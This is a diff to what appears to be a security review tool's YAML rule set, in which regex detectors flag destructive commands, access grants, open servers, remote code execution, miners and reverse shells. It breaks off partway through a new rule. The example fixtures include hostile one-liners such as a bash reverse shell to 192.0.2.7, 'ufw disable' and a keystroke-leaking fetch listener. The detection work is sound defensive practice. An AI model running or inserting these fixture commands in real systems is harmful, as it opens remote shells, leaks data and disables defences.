@@ -895,7 +895,7 @@ rules:
         - any:
             - label: ci-definition
             - path: '(?i)\.(sh|bash|ps1|ya?ml)$|(^|/)(Makefile|justfile|package\.json|Procfile)$'
-        - added: '(?i)\b(dropdb|DROP\s+DATABASE|db:drop|mongo\S*\s.{0,80}dropDatabase|FLUSHALL|aws\s+s3\s+(rm|rb)\s.{0,200}--(recursive|force)|gsutil\s.{0,40}rm\s+-r|terraform\s+destroy|kubectl\s+delete\s+(ns|namespace|pvc?)\b|helm\s+uninstall|rm\s+-[a-z]*r[a-z]*\s+(-\S+\s+)*["'']?(/|~|\$HOME)["'']?(\s|$))'
+        - added: '(?i)(?=.{0,200}(deploy|release|start|prod|post_?install|heroku|bootstrap)).{0,120}\b(prisma\s+migrate\s+reset|migrate:fresh|db:(reset|drop|wipe)|manage\.py\s+flush|ecto\.(reset|drop)|flyway\s+clean|liquibase\s+drop-?all|alembic\s+downgrade\s+base|sequelize\s+db:drop)\b|\b(dropdb|DROP\s+DATABASE|db:drop|mongo\S*\s.{0,80}dropDatabase|FLUSHALL|aws\s+s3\s+(rm|rb)\s.{0,200}--(recursive|force)|gsutil\s.{0,40}rm\s+-r|terraform\s+destroy|kubectl\s+delete\s+(ns|namespace|pvc?)\b|helm\s+uninstall|rm\s+-[a-z]*r[a-z]*\s+(-\S+\s+)*["'']?(/|~|\$HOME)["'']?(\s|$))'
     unless: [{ change: [comments, whitespace] }, { label: demonstration }]
     withhold: [deploy_environment]
     reviewers: [{ team: platform, count: 1 }]
@@ -2205,17 +2205,58 @@ rules:
     summary: Who may log in to a machine or become root is changed
     tier: high
     when:
-      path: '(?i)(^|/)(authorized_keys[^/]*|sudoers(\.d/[^/]+)?|sshd_config(\.d/[^/]+)?|pam\.d/[^/]+|polkit-1/[^/]+/[^/]+)$'
+      - added: '\bNOPASSWD\s*:|\bALL\s*=\s*\(\s*ALL\b'
+        not: { label: markup }
+      - path: '(?i)(^|/)(authorized_keys[^/]*|sudoers(\.d/[^/]+)?|sshd_config(\.d/[^/]+)?|pam\.d/[^/]+|polkit-1/[^/]+/[^/]+)$'
     unless: { label: demonstration }
     reviewers: [{ team: security, count: 1 }]
     tags: [CWE-284]
     examples:
       match:
+        - { path: files/deploy, added: "deploy ALL=(ALL) NOPASSWD: ALL" }
         - { path: images/base/etc/sudoers.d/deploy, added: "deploy ALL=(ALL) NOPASSWD: ALL" }
         - { path: ops/authorized_keys, added: "ssh-ed25519 AAAA" }
       no_match:
+        - { path: GUIDE.md, added: "deploy ALL=(ALL) NOPASSWD: ALL" }
         - { path: ops/known_hosts, added: "host ssh-ed25519 AAAA" }
         - { path: docs/sshd_config, added: "PermitRootLogin no" }
+
+  - id: identity.server-open
+    summary: A server is told to let everybody in
+    tier: high
+    when:
+      path: '(?i)\.(conf|cnf|cfg|ini|ya?ml|json|toml|properties|xml|env|hcl|tpl|sh|service)$|(^|/)(Dockerfile|Caddyfile|pg_hba\.conf|sshd_config)[^/]*$'
+      any:
+        - added:
+            - '(?i)^\s*protected-mode\s+no\b|^\s*["'']?xpack\.security\.enabled["'']?\s*[:=]\s*["'']?false|\btcp://0\.0\.0\.0:2375\b|\bskip-grant-tables\b|^\s*(host|local)\s+\S+\s+\S+\s+(\S+\s+)?trust\s*$|^\s*PermitRootLogin\s+yes\b|^\s*PermitEmptyPasswords\s+yes\b|\ballow\.everyone\.if\.no\.acl\.found\s*=\s*true|--anonymous-auth=true\b|\bALLOW_EMPTY_PASSWORD\b|\bMYSQL_ALLOW_EMPTY_PASSWORD\b|\bPOSTGRES_HOST_AUTH_METHOD\W{1,4}trust\b|--(ip|bind|host)[= ]0\.0\.0\.0\b.{0,80}--(no-auth|NotebookApp\.token=)|\bauth_?mode["'']?\s*[:=]\s*["'']?(none|anonymous|disabled)\b'
+            - '\bmode\s*:\s*["'']?(DISABLE|PERMISSIVE)["'']?\s*$|^\s*policy\.default\s*:\s*["'']?role:admin\b|\btype\s*:\s*["'']?Unconfined\b'
+        - net_removed: '(?i)^\s*authorization\s*:\s*["'']?enabled\b|^\s*requirepass\s|^\s*security\.enabled\s*[:=]\s*true|\b(white|allow)list-source-range\b|\bloadBalancerSourceRanges\b|\bnginx\.ingress\.kubernetes\.io/auth-(url|type|secret|tls-\w+)\b|^\s*auth_basic\s+["'']|^\s*(deny\s+all|allow\s+[\d.]+/\d+)\s*;|\bmaster_authorized_networks\b'
+        - { net_removed: '^\s*USER\s+(?!root\b|0\b)\S', path: '(?i)(^|/)(Dockerfile|Containerfile)[^/]*$' }
+        - added: '^\s*-\s*\{\s*\}\s*$'
+          near: { pattern: '^\s*(ingress|egress)\s*:', within: 2 }
+    unless: [{ label: demonstration }, { change: [comments, whitespace] }, { status: deleted }]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-306, CWE-284]
+    monotone: false
+    examples:
+      match:
+        - { path: redis.conf, added: "protected-mode no" }
+        - { path: mesh/peer.yaml, added: "    mode: DISABLE" }
+        - { path: mongod.conf, removed: "  authorization: enabled", added: "  x: y" }
+        - { path: Dockerfile, removed: "USER node", added: "RUN true" }
+        - { path: np.yaml, base: "ingress:\n", head: "ingress:\n- {}\n" }
+      no_match:
+        - { path: redis.conf, added: "protected-mode yes" }
+        - { path: src/a.c, added: "protected-mode no" }
+        - { path: mongod.conf, removed: "  authorization: enabled", added: "  authorization: enabled # yes" }
+        - { path: Dockerfile, removed: "USER node", added: "USER web" }
+        - { path: a.conf, removed: "USER node" }
+        - { path: np.yaml, base: "volumes:\n", head: "volumes:\n- {}\n" }
+        - { path: np.yaml, base: "ingress:\n", head: "ingress:\n- a\n" }
+        - { path: examples/redis.conf, added: "protected-mode no" }
+        - { path: redis.conf, status: deleted, removed: "requirepass x" }
+        - { path: a.sh, base: "true\n# old\nfalse\n", head: "true\n# see tcp://0.0.0.0:2375\nfalse\n" }
+        - { path: a.yaml, base: "a: skip-grant-tables\n", head: "a: skip-grant-tables \n" }
 
 """##########
         ),
@@ -2270,12 +2311,14 @@ rules:
       added:
         - '^\s*default\s+allow\w*\s*(:?=)\s*true\b'
         - '(?i)^\s*allow\s+(read|write|read,\s*write|create|update|delete)[\w, ]{0,40}(:\s*if\s+true\s*)?;\s*$|"\.(read|write)"\s*:\s*(true|"true")'
+        - '(?i)\b(role|is_?admin|is_?staff|is_?superuser|access_?level)\b.{0,40}\bdefault\b["'']?\s*[:=(]\s*["'']?(admin|root|superuser|owner|true)\b|\bdefault["'']?\s*[:=]\s*["''](admin|root|superuser)["'']'
         - '(?i)\bdefault_?(policy|action|effect|permission|access)\b["'']?\s*[:=]\s*["'']?(allow|permit|accept|grant|write|admin)\b'
     unless: [{ change: [comments, whitespace] }, { label: demonstration }, { label: test-source }, { label: markup }]
     reviewers: [{ team: security, count: 1 }]
     tags: [CWE-276, CWE-284]
     examples:
       match:
+        - { path: src/user.ts, added: "@Column({ default: 'admin' }) role" }
         - { path: policy/http.rego, added: "default allow := true" }
         - { path: firestore.rules, added: "      allow read, write: if true;" }
         - { path: config/gate.yaml, added: "default_action: allow" }
@@ -2427,7 +2470,7 @@ rules:
       path: '(?i)\.(ts|js|mjs|py|go|java|kt|cs|rb|sh|bash|ps1|ya?ml|mk)$|(^|/)((GNU)?Makefile|justfile)$'
       added:
         - '(?i)\b(AdministratorAccess|PowerUserAccess|IAMFullAccess|AmazonS3FullAccess)\b|\.grantPublicAccess\(|\bnew\s+iam\.(AnyPrincipal|StarPrincipal)\(|\biam\.(AnyPrincipal|StarPrincipal)\(|\b(actions|resources|Action|Resource|NotAction)["'']?\s*[:=]\s*\[\s*["'']\*["'']\s*\]|\bgrantAdmin\w*\(|\bManagedPolicy\.fromAwsManagedPolicyName\(\s*["''](AdministratorAccess|PowerUser|IAMFull)'
-        - '(?i)\badd-iam-policy-binding\b|\bset-iam-policy\b|\baws\s+iam\s+(attach-(user|role|group)-policy|put-(user|role|group)-policy|create-access-key|create-login-profile|update-assume-role-policy|add-user-to-group)\b|\baz\s+role\s+assignment\s+create\b|\bNew-AzRoleAssignment\b|\bkubectl\s+create\s+(clusterrolebinding|rolebinding|clusterrole)\b|\boc\s+adm\s+policy\s+add-\w|\bvault\s+(policy\s+write|write\s+auth/)|\bgh\s+api\b.{0,120}/collaborators/'
+        - '(?i)\badd-iam-policy-binding\b|\bgsutil\s+(iam|acl)\s+(ch|set)\b|\baws\s+s3api\s+put-(bucket-(acl|policy)|object-acl|public-access-block)\b|\baz\s+storage\s+container\s+set-permission\b|\bPeer\.anyIpv[46]\(\)|\bacl\s*=\s*["'']public-read|\bpublicly_?[aA]ccessible\s*[:=]\s*true\b|\bBucketAccessControl\.PUBLIC|\bblockPublic(Acls|Policy)\s*:\s*false|\bblock_public_(acls|policy)\s*=\s*False|\b(storage)?_?encrypted\s*[:=]\s*false\s*,\s*$|\bset-iam-policy\b|\baws\s+iam\s+(attach-(user|role|group)-policy|put-(user|role|group)-policy|create-access-key|create-login-profile|update-assume-role-policy|add-user-to-group)\b|\baz\s+role\s+assignment\s+create\b|\bNew-AzRoleAssignment\b|\bkubectl\s+create\s+(clusterrolebinding|rolebinding|clusterrole)\b|\boc\s+adm\s+policy\s+add-\w|\bvault\s+(policy\s+write|write\s+auth/)|\bgh\s+api\b.{0,120}/collaborators/'
     unless: [{ change: [comments, whitespace] }, { label: demonstration }, { label: test-source }]
     reviewers: [{ team: security, count: 1 }]
     tags: [CWE-269, CWE-732]
@@ -2448,17 +2491,22 @@ rules:
     tier: high
     when:
       path: '(?i)\.(tf|tofu|hcl|json|ya?ml|template|bicep|tpl)$'
-      added:
-        - '["''](repo|project_path|organization|system):[^"'']{0,120}\*[^"'']{0,80}["'']'
-        - '(?i)\battribute_condition\s*=\s*["''](true)?["'']|\bprincipalSet://[^"''\s]{0,200}/(\*|attribute\.repository_owner/)'
+      any:
+        - net_removed: '["''](String(Equals|Like)|ArnLike|ArnEquals|IpAddress|Bool)["'']\s*:|:sub["'']\s*:|\baws:(SourceArn|SourceAccount|PrincipalOrgID|MultiFactorAuthPresent|SourceIp)\b'
+        - added:
+            - '["''](repo|project_path|organization|system):[^"'']{0,120}\*[^"'']{0,80}["'']'
+            - '(?i)\battribute_condition\s*=\s*["''](true)?["'']|\bprincipalSet://[^"''\s]{0,200}/(\*|attribute\.repository_owner/)'
     unless: [{ change: [comments, whitespace] }, { label: demonstration }]
     reviewers: [{ team: security, count: 1 }]
     tags: [CWE-284, CWE-863]
+    monotone: false
     examples:
       match:
+        - { path: trust.json, removed: "  \"StringEquals\": {\"token:sub\": \"x\"}", added: "  \"a\": 1" }
         - { path: infra/robot.tf, added: "      values   = [\"repo:acme/*\"]" }
         - { path: infra/robot.tf, added: "  attribute_condition = \"true\"" }
       no_match:
+        - { path: trust.json, removed: "  \"StringEquals\": {\"token:sub\": \"x\"}", added: "  \"StringEquals\": {\"token:sub\": \"y\"}" }
         - { path: infra/robot.tf, added: "      values   = [\"repo:acme/ledger:ref:refs/heads/main\"]" }
         - { path: src/robot.go, added: "x := \"repo:acme/*\"" }
         - { path: examples/robot.tf, added: "      values   = [\"repo:acme/*\"]" }
@@ -3088,7 +3136,7 @@ rules:
       all:
         - label: code
         - added:
-            - '(?i)(\b(print\w*|pprint|puts|dd|var_dump|print_r|IO\.(puts|inspect)|fmt\.Print\w*|System\.out\.print\w*)\b\s*\(?[^;]{0,80})(\b(req|request|conn|ctx\.request)\.(headers|req_headers|META|POST|body|cookies|rawHeaders|Header|Cookies)\b|\bparams\.(inspect|to_s|to_unsafe_h)|\$request->(all|headers|getContent)|\$_(POST|SERVER|COOKIE)\b)'
+            - '(?i)(\b(print\w*|pprint|puts|dd|var_dump|print_r|IO\.(puts|inspect)|fmt\.Print\w*|System\.out\.print\w*|Rails\.logger\.\w+(?=\s+params))\b\s*\(?[^;]{0,80})(\b(req|request|conn|ctx\.request)\.(headers|req_headers|META|POST|body|cookies|rawHeaders|Header|Cookies)\b|\bparams\.(inspect|to_s|to_unsafe_h)|\$request->(all|headers|getContent)|\$_(POST|SERVER|COOKIE)\b)'
             - '(?i)\bEnableSensitiveDataLogging\(|\bShowPII\s*=\s*true|\blog_?Sensitive\w*\s*[:=(]\s*true'
             - '(?i)\b(log(ger|ging)?|console|slog|Rails\.logger)\.(\w+\.)?(info|debug|warn(ing)?|error|trace|log|print)\w*\s*\(?[^;]{0,120}\b(req|request|ctx\.request|response|resp)\.(headers|body|cookies|rawHeaders|Header|META|POST|text|data)\b'
             - '(?i)\bhttputil\.Dump(Request|Response)(Out)?\s*\([^)]{0,60},\s*true|\bHttpLoggingInterceptor\.Level\.(BODY|HEADERS)\b|\bhttp\.client\.HTTPConnection\.debuglevel\s*=\s*[1-9]|\bset_debug_output\b|\bsend_default_pii\s*=\s*True\b|\bsendDefaultPii\s*:\s*true\b|\bsend_default_pii\s*=\s*true\b|\blogging\.level\.org\.apache\.http\.wire\b'
@@ -4463,7 +4511,7 @@ rules:
     summary: A password is written into a URL
     tier: high
     when:
-      added: '(?i)\b[a-z][a-z0-9+.-]{1,20}://[^\s:/?#@"''<>{}$%*]{1,64}:(?=[^\s@]{0,60}[0-9])(?=[^\s@]{0,60}[a-z])(?!(?:pass(?:word|wd)?|secret|changeme|example|postgres|admin|user|guest|test)[0-9]{0,4}@)[^\s:/@"''<>{}$%*()]{8,100}@(?!(?:localhost|127\.0\.0\.1|host|example\.(?:com|org|net)|db|database|postgres|mysql|redis|rabbitmq|mongo)(?:[:/"''\s]|$))[\w.-]+'
+      added: '(?i)\b(?:Server|Data\s+Source|Host|User\s+Id|Uid|AccountName)\s*=[^"''\n]{1,200};\s*(?:Password|Pwd|AccountKey)\s*=\s*(?=[^;"''\s]{0,80}[0-9])(?=[^;"''\s]{0,80}[a-z])(?![^;]{0,20}(?:changeme|example|password|secret|your|\.\.\.))[^;"''\s{}$%<>*]{8,100}|\b[a-z][a-z0-9+.-]{1,20}://[^\s:/?#@"''<>{}$%*]{1,64}:(?=[^\s@]{0,60}[0-9])(?=[^\s@]{0,60}[a-z])(?!(?:pass(?:word|wd)?|secret|changeme|example|postgres|admin|user|guest|test)[0-9]{0,4}@)[^\s:/@"''<>{}$%*()]{8,100}@(?!(?:localhost|127\.0\.0\.1|host|example\.(?:com|org|net)|db|database|postgres|mysql|redis|rabbitmq|mongo)(?:[:/"''\s]|$))[\w.-]+'
     unless: [{ label: demonstration }, { label: prose }]
     withhold: [publish_artifact, deploy_environment, read_secrets]
     reviewers: [{ team: security, count: 1 }]
@@ -4922,7 +4970,7 @@ rules:
         - '(?i)\b(curl|wget)\b[^|;&]{1,300}\|\s*(sudo\s+(-\S+\s+)*)?(env\s+\S+\s+)?((ba|z|da|k)?sh|python3?|perl|ruby|node|php)\b'
         - '(?i)\b((ba|z|da)?sh|source|eval|python3?)\s+(-c\s+)?["'']?(<\(|\$\(|`)\s*(curl|wget)\b'
         - '(?i)\b(iwr|irm|Invoke-(WebRequest|RestMethod)|DownloadString)\b[^#]{0,300}(\|\s*(iex|Invoke-Expression)\b)|\b(iex|Invoke-Expression)\b[^#]{0,60}\b(DownloadString|iwr|irm|Invoke-WebRequest)\b'
-        - '(?i)\bexec\s*\(\s*(requests\.get|urllib\.request\.urlopen|urlopen)\s*\(|\beval\s*\(\s*(await\s+)?\(?\s*(await\s+)?fetch\s*\('
+        - '(?i)\b(eval|instance_eval|load|exec|Function)\s*\(?\s*(Net::HTTP|URI\.open|HTTP\.get|open\(\s*["'']https?:|file_get_contents\(\s*["'']https?:|httpx?\.get\(|requests\.get|urllib\.request\.urlopen|urlopen)|\beval\s*\(\s*(await\s+)?\(?\s*(await\s+)?fetch\s*\(|\b(exec\.Command|Command::new|ProcessBuilder|Process\.Start|child_process|subprocess\.\w+|os\.system|popen|Runtime\.getRuntime\(\)\.exec)\b.{0,160}\b(getDecoder|FromBase64String|b64decode|atob|base64|StdEncoding\.DecodeString)\b'
     unless: [{ label: prose }, { change: [comments, whitespace] }]
     withhold: [publish_artifact]
     reviewers: [{ team: security, count: 1 }]
@@ -4958,6 +5006,61 @@ rules:
         - { path: GUIDE.md, added: "curl -fsSL https://get.example/i.sh -o /tmp/i.sh\nsh /tmp/i.sh" }
         - { path: examples/setup.sh, added: "curl -fsSL https://get.example/i.sh -o /tmp/i.sh\nsh /tmp/i.sh" }
 
+  # In pieces: what comes over the network ends, a few lines later, in what runs it.
+  - id: security.remote-code-in-pieces
+    summary: Text is fetched from the network and run as a program
+    tier: high
+    when:
+      label: code
+      added:
+        - '(?i)(?:\b(?:fetch|urlopen|requests\.get|httpx\.get|axios(?:\.get)?|file_get_contents|curl_exec|Net::HTTP|URI\.open|https?\.get|reqwest|ureq|http\.Get|HttpClient|WebClient|DownloadString)\b)(?s:.{0,500}?)(?<![.\w])(?:eval|exec|instance_eval|loadstring|(?-i:Function)|vm\.run\w*)\s*\(\s*(?!["''/])\w'
+        - '(?i)\b(?:http\.Get|ureq::get|reqwest|urlretrieve|DownloadFile|WriteAllBytes|WriteFile|write_all|File\.write|writeFileSync)\b(?s:.{0,400}?)\b(?:exec\.Command|Command::new|Process\.Start|ProcessBuilder|os\.startfile|syscall\.Exec|execFile|spawn)\(?\s*\(?\s*["''](?:/tmp/|/dev/shm|/var/tmp|sh["'']|bash["'']|cmd)'
+      span: hunk
+    unless: [{ label: demonstration }, { label: test-source }, { change: [comments, whitespace] }]
+    withhold: [publish_artifact, run_tests]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-94, CWE-506]
+    monotone: false
+    examples:
+      match:
+        - { path: src/a.py, added: "code = requests.get(u).text\nexec(code)" }
+        - { path: src/a.go, added: "r, _ := http.Get(u)\nexec.Command(\"/tmp/b\").Start()" }
+      no_match:
+        - { path: src/a.py, added: "code = requests.get(u).text\nprint(code)" }
+        - { path: notes.txt, added: "code = requests.get(u).text\nexec(code)" }
+        - { path: examples/a.py, added: "code = requests.get(u).text\nexec(code)" }
+        - { path: Ledger.Tests/a.py, added: "code = requests.get(u).text\nexec(code)" }
+        - { path: src/a.py, base: "a = 1\n# old\nb = 2\n", head: "a = 1\n# urlopen(u); exec(x)\nb = 2\n" }
+        - { path: src/a.py, base: "x = urlopen(u); exec(x)\n", head: "x = urlopen(u); exec(x) \n" }
+
+  - id: security.host-weakened
+    summary: A machine's defences are switched off, or a way back in is left
+    tier: high
+    when:
+      added:
+        - '\bchmod\s+(?:[ugoa]*\+s|[2467][0-7]{3})\s|\buseradd\b[^#]{0,80}\s-u\s*0\b|\biptables\s+-F\b|\bufw\s+disable\b|\bsetenforce\s+0\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?(?:firewalld|auditd|apparmor|falco|fail2ban|osquery\w*|crowdstrike\w*|ufw|clamav\w*)\b|\bSet-MpPreference\b.{0,80}-Disable|\badvfirewall\s+set\s+\w+\s+state\s+off\b|\bunset\s+HISTFILE\b|\bhistory\s+-c\b|\bauditctl\s+-D\b|>\s*/etc/systemd/system/\S+\.service'
+        - '\bstratum\+(?:tcp|ssl)://|\b(?:xmrig|minerd|cryptonight|cpuminer|nicehash|coinhive)\b'
+        - '(?i)\b(?:Time\.now|Date\.now\(\)|time\.time\(\)|datetime\.(?:utc)?now\(\)|time\.Now\(\)|new\s+Date\(\)|System\.currentTimeMillis\(\)|DateTime\.(?:Utc)?Now)\s*(?:>=?|\.After\(|\.isAfter\()\s*(?:Time\.(?:at|new|utc)\(|new\s+Date\(\s*["'']?\d{4}|(?:datetime\.)?datetime\(\s*\d{4}|\d{10,13}\b|time\.(?:Date|Unix)\(\s*\d|DateTime\(\s*\d{4})'
+        - '(?i)\b(?:dns["'']?\)?\.(?:lookup|resolve\w*)|gethostbyname|getaddrinfo|nslookup|dig)\b.{0,120}\b(?:userInfo\(\)|hostname\(\)|whoami|process\.env|os\.environ|toString\(\s*["'']hex|hexlify)|["''](?:keydown|keypress|keyup)["''].{0,200}\b(?:sendBeacon|fetch|XMLHttpRequest|WebSocket)\b|\b(?:to|recipient|destination|payee|beneficiary|payout\w*)\s*[:=]\s*["''](?:0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|[A-Z]{2}\d{2}[A-Z0-9]{12,30})["'']'
+    unless: [{ label: demonstration }, { label: test-source }, { label: markup }, { change: [comments, whitespace] }]
+    withhold: [publish_artifact, deploy_environment]
+    reviewers: [{ team: security, count: 1 }]
+    tags: [CWE-506, CWE-912]
+    examples:
+      match:
+        - { path: boot.sh, added: "ufw disable" }
+        - { path: Dockerfile, added: "CMD [\"kworker\", \"-o\", \"stratum+tcp://pool.example:3333\"]" }
+        - { path: src/a.py, added: "if time.time() > 1893456000: wipe()" }
+        - { path: web/a.js, added: "addEventListener('keydown', e => fetch(u + e.key))" }
+      no_match:
+        - { path: boot.sh, added: "ufw enable" }
+        - { path: src/a.py, added: "if time.time() > deadline: stop()" }
+        - { path: GUIDE.md, added: "ufw disable" }
+        - { path: docs/boot.sh, added: "ufw disable" }
+        - { path: Ledger.Tests/a.py, added: "run('ufw disable')" }
+        - { path: boot.sh, base: "true\n# old\nfalse\n", head: "true\n# ufw disable\nfalse\n" }
+        - { path: boot.sh, base: "ufw disable\n", head: "ufw disable \n" }
+
   - id: security.exfiltration
     summary: Secrets of the machine are collected or sent away
     tier: high
@@ -4990,6 +5093,7 @@ rules:
     when:
       added:
         - '/dev/(tcp|udp)/[\w.$\{\}-]{1,100}/|\b(ba|z|k)?sh\s+-i\s*(>|<|2>|\d?>&)|\b(nc|ncat|netcat)\b[^#|]{0,80}\s-[a-z]*e\s*(/bin/|cmd|bash|sh\b)'
+        - '\bexec\s*\(?\s*\[?["'']/bin/(?:ba|z|da)?sh\b.{0,20}-i\b|\bopen\(STD(?:IN|OUT|ERR),\s*["'']>&|\bNew-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\b|\bTCPSocket\.(?:new|open)\(.{0,120}\b(?:exec|popen|spawn)\b|\bnet\.Dial\(.{0,120}\bexec\.Command\(|\bfsockopen\(.{0,120}\b(?:proc_open|exec|shell_exec)\b'
         - '\bpty\.spawn\s*\(\s*["''][^"'']{0,20}sh["'']|\bsocket\b.{0,120}\b(dup2|subprocess)\b.{0,120}sh\b|\bmkfifo\b[^#]{0,120}\|\s*(nc|ncat|openssl)\b|\bsocat\b[^#]{0,120}\bEXEC:'
     unless: { label: prose }
     withhold: [run_tests, publish_artifact, deploy_environment]
@@ -4997,6 +5101,7 @@ rules:
     tags: [CWE-506]
     examples:
       match:
+        - { path: a.pl, added: "exec(\"/bin/sh -i\");" }
         - { path: scripts/x.sh, added: "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1" }
         - { path: tests/x.py, added: "pty.spawn('/bin/sh')" }
       no_match:
@@ -5024,6 +5129,7 @@ rules:
             - '(?i)["''/](AES|DES|DESede|3DES|Blowfish)[/-](\d{3}[/-])?ECB\b|\b(AES|DES3?)\.MODE_ECB\b|\bCipherMode\.ECB\b|\bmodes\.ECB\(|["''](des|rc4|rc2|arcfour|des-ede3?|des-cbc)["''/]|\bcreateCipher\(|\bDES\.new\(|\bARC4\.new\(|\bnewRC4Cipher\b|\brc4\.NewCipher\(|\bdes\.NewCipher\('
             - '\b(VersionTLS1[01]|VersionSSL30)\b|\b(PROTOCOL_(SSLv2|SSLv3|SSLv23|TLSv1(_1)?)|TLSVersion\.(SSLv3|TLSv1(_1)?)|SslProtocols\.(Ssl[23]|Tls(11)?))\b|["''](SSLv[23]|TLSv1(\.[01])?)(_method)?["'']|\b(SSLv3|TLSv1(_1)?)_(client_|server_)?method\b|\bAES_ENCRYPT_ONLY\b'
             - '(?i)\b\w*(token|secret|passw(or)?d|nonce|otp|session_?id|csrf|salt|reset_?code|invite_?code|api_?key)\w*\s*(:=|=|:)\s*.{0,80}\b(Math\.random\(|math/rand|rand\.(Int|Intn|Int63|Uint32|Float64)\(|random\.(random|randint|choice|choices|getrandbits|sample)\(|mt_rand\(|uniqid\(|rand\(\)|new\s+Random\(|Random\.(new|rand|nextInt|Next)\b|arc4random\(|java\.util\.Random\b)'
+            - '\b\w{0,20}(?<![a-z])(iv|IV|nonce|Nonce|NONCE)\s*(:=|=|:)\s*(b?["''][^"''\s]{8,64}["'']|\[\]byte\(\s*["''{]|new\s+byte\[\s*\d+\s*\]\s*;|bytes\(\s*\d+\s*\)|Buffer\.(alloc|from)\(\s*(\d|["'']))|\b(RSA\.generate\(|genrsa\s|-newkey\s+rsa:|GenerateKey\(rand\.Reader,\s*|key_size\s*=\s*|modulusLength\s*:\s*)(512|768|1024)\b'
             - '\bbcrypt\.MinCost\b|\bgensalt\(\s*(rounds\s*=\s*)?[1-9]\s*\)|\bBCryptPasswordEncoder\(\s*[4-9]\s*\)|\bbcrypt\.(hash|hashSync|genSalt\w*)\([^,)]{0,80},\s*[1-9]\s*\)|\bPBKDF2\w*\([^)]{0,200},\s*[1-9][0-9]{0,3}\s*[,)]|\bpbkdf2\w*\([^)]{0,200},\s*[1-9][0-9]{0,3}\s*[,)]'
         - path: '(?i)\.(conf|cfg|cnf|ini|ya?ml|properties|toml|json|tf|hcl|xml|env|vcl)$|(^|/)(nginx|apache2?|haproxy|sshd_config|stunnel|openssl)[^/]*$'
           added: '(?i)\b(ssl_?protocols?|SSLProtocol|min(imum)?_?(tls|ssl)?_?(protocol_?)?version|tls_?min\w*|ssl-default-bind-options|MinProtocol|minProtocolVersion|security_policy|ssl_policy|tlsMinVersion)\b["'']?.{0,60}(SSLv[23]|TLSv?_?1(\.[01]|_[01])?(?![._]?[0-9])|ELBSecurityPolicy-2015|TLS_1_0)|\b(ssl_ciphers|SSLCipherSuite|Ciphers|tls_?ciphers)\b.{0,200}(?<![!-])\b(NULL|EXPORT|RC4|3?DES|MD5|aNULL|eNULL|arcfour)\b'
@@ -5035,6 +5141,7 @@ rules:
     monotone: false
     examples:
       match:
+        - { path: src/box.py, added: "iv = b\"0000000000000000\"" }
         - { path: src/login.py, added: "h = hashlib.md5(password).hexdigest()" }
         - { path: src/Box.java, added: "Cipher c = Cipher.getInstance(\"AES/ECB/PKCS5Padding\");" }
         - { path: src/net.go, added: "MinVersion: tls.VersionTLS10," }
@@ -5083,7 +5190,7 @@ rules:
       - label: code
         added:
           - '(?i)\b(c?pickle|dill|marshal|shelve|jsonpickle|cloudpickle)\.(loads?|decode)\(.{0,80}\b(request|response|resp|req|body|content|recv|data|payload|message|msg|cookie\w*|get\(|urlopen|input|stdin)\b|\byaml\.(unsafe_load|full_load)\(|\bYAML\.unsafe_load\b|\bMarshal\.load\b|\bunserialize\(\s*\$(_|input|request|data|payload|cookie)|\bnew\s+(BinaryFormatter|ObjectInputStream|XMLDecoder)\(|\bTypeNameHandling\.(All|Auto|Objects)\b|\btorch\.load\([^)]{0,120}weights_only\s*=\s*False'
-          - '(?i)(?<![.\w])(eval|exec|execSync|system|popen|spawn\w*|shell_exec|passthru|proc_open|instance_eval|class_eval|(?-i:Function)|vm\.run\w*|os\.system|subprocess\.\w+|child_process\.\w+|Runtime\.getRuntime\(\)\.exec|ScriptEngine\w*\.eval)\(.{0,120}\b(req(uest)?\.(body|query|params|headers|args|form|json|data|get|values|GET|POST|cookies|files)|params\[|\$_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|ctx\.(query|body|request)|event\.(data|body)|location\.(hash|search)|window\.name|input\(\))'
+          - '(?i)(?<![.\w])(eval|exec|execSync|system|popen|spawn\w*|shell_exec|passthru|proc_open|instance_eval|class_eval|(?-i:Function)|vm\.run\w*|os\.system|subprocess\.\w+|child_process\.\w+|Runtime\.getRuntime\(\)\.exec|ScriptEngine\w*\.eval)\(.{0,120}(\breq(uest)?\.(body|query|params|headers|args|form|json|data|get|values|GET|POST|cookies|files)|\bparams\[|\$_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|\bctx\.(query|body|request)|\bevent\.(data|body)|\blocation\.(hash|search)|\bwindow\.name|\binput\(\))|\.exec(Sync|FileSync)\(.{0,60}\breq\.(body|query|params)'
           - '(?i)\bfetch\(.{0,200}\.then\(\s*(eval|Function)\s*\)|\.then\(\s*\(?\w{1,20}\)?\s*=>\s*(eval|new\s+Function)\(|\bimport\(\s*["'']https?://|\bimportlib\.\w+\(.{0,60}\burl|\b(loadstring|load)\(\s*(game:)?HttpGet\b|\brequire\(\s*["'']https?://'
     unless: [{ label: demonstration }, { label: test-source }, { change: [comments, whitespace] }]
     reviewers: [{ team: security, count: 1 }]
@@ -5103,6 +5210,153 @@ rules:
         - { path: Ledger.Tests/a.py, added: "x = pickle.loads(response.content)" }
         - { path: src/a.py, base: "a = 1\n\n# Old.\nb = 2\n", head: "a = 1\n\n# pickle.loads(response.content)\nb = 2\n" }
         - { path: src/a.py, base: "x = pickle.loads(response.content)\n", head: "x = pickle.loads(response.content) \n" }
+
+"""##########
+        ),
+        (
+            "security/regressions.yaml",
+            ##########"""
+# yaml-language-server: $schema=../schema/policy.json
+# Code that protected somebody and no longer does: guards that let everybody pass, escaping that ends, queries put together from text.
+version: 1
+owner: security
+variables:
+  guard-name: '(?i:\b\w*(?:allow(?:ed)?|authori[sz]e\w*|authenticat\w*|permi(?:t|ssion)\w*|can_?(?:edit|delete|access|view|manage|read|write|admin|see)\w*|is_?(?:admin|owner|staff|superuser)\w*|has_?(?:access|role|permission|scope)\w*|verif(?:y|ied)_?\w*|check_?(?:signature|access|permission|auth\w*|token)\w*)\s*[(:=])'
+rules:
+  - id: security.guard-always-passes
+    summary: A check of who may do what lets everybody pass
+    tier: high
+    when:
+      label: code
+      not: { path: '(?i)(^|/)(vendor|third_party|node_modules|dist)/|\.min\.js$' }
+      any:
+        - added: '^\s*return\s+(?:true|True)\s*;?\s*$'
